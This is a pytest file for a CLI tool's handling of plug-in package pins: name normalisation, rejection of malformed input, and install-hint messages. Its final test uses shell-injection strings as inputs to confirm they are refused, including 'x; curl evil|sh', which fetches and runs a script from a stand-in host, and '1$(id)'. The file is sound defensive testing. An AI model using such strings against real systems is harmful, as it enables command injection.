"""Names and versions of packages, as they are typed, stored and sent."""

import json

import pytest

from flames_cli.errors import FlamesError
from flames_cli.plugins import ALLOWED_VARIABLE, require_plugins
from flames_cli.plugins.packages import (
    packages_text,
    parse_packages,
    parse_pin,
    usable_here,
)
from tests.support.plugins import make_package


@pytest.mark.parametrize("text", ["Flames.Example==1.0", "flames-example == 1.0", "FLAMES__example==1.0"])
def test_all_spellings_of_a_package_are_one(text):
    assert parse_pin(text) == ("flames-example", "1.0")


@pytest.mark.parametrize("text", ["", "==1", "a==", "a b", "a==1==2", "-a", "a-", "é", "a==1 2", "a;b"])
def test_a_text_that_is_no_package_is_rejected(text):
    with pytest.raises(FlamesError, match="expected PACKAGE or PACKAGE==VERSION"):
        parse_pin(text)


def test_packages_come_back_as_they_were_sent():
    packages = {"flames-example": "0.1.0", "b": "2.0+local.1", "missing": ""}
    assert parse_packages(packages_text(packages)) == packages


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "7",
        '{"a": 1}',
        '{"a": null}',
        '{"A b": "1"}',
        '{"a": "1 2"}',
        '{"a": "\\u001b[31m"}',
        json.dumps({"a": "1" * 101}),
        json.dumps({f"a{number}": "1" for number in range(2000)}),
        "[" * 5000,
    ],
)
def test_a_list_of_packages_from_another_machine_is_checked(text):
    with pytest.raises(ValueError, match=r"plug-in packages|Expecting|value"):
        parse_packages(text)


def test_only_the_allowed_version_of_an_installed_package_is_usable(site, monkeypatch):
    make_package(site, "right", {}, version="1.0")
    make_package(site, "other", {}, version="2.0")
    monkeypatch.setenv(ALLOWED_VARIABLE, '{"right": "1.0", "other": "1.0", "gone": "1.0"}')
    assert parse_packages(usable_here()) == {"right": "1.0", "other": "", "gone": ""}
    monkeypatch.delenv(ALLOWED_VARIABLE)
    assert usable_here() == "{}"


@pytest.mark.parametrize("fact", ["Flames_Nets 0.1", "nets 1.0+local"])
def test_a_message_shows_how_to_install_a_missing_package(fact):
    package, version = fact.split()
    with pytest.raises(FlamesError, match="which is not there; install it") as error:
        require_plugins([f"models/gone {fact}"], "run 'a'")
    assert f"(pip install {package}=={version})" in str(error.value)


@pytest.mark.parametrize(
    "fact", ["x; curl evil|sh # 1", "nets 1$(id)", "nets\x1b[31m 1.0", "--pre 1.0", "1.0", ""]
)
def test_a_fact_of_a_run_makes_no_command_for_the_shell(fact):
    with pytest.raises(FlamesError, match="install it, or pass --plugin FILE") as error:
        require_plugins([f"models/gone {fact}"], "run 'a'")
    assert str(error.value).isprintable()
